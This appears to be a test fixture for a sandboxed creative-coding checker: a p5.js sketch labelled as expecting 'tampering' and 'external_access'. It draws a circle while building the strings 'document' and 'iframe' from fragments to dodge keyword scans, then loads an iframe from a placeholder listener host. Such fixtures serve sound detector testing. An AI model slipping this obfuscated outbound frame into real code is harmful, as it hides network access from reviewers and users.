// tries: a frame from the network
// expect: tampering, external_access
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  const page = window[hidden("docu", "ment")];
  const frame = page.createElement(hidden("ifr", "ame"));
  frame.src = "http://@LISTENER@/frame";
  page.body.append(frame);
}
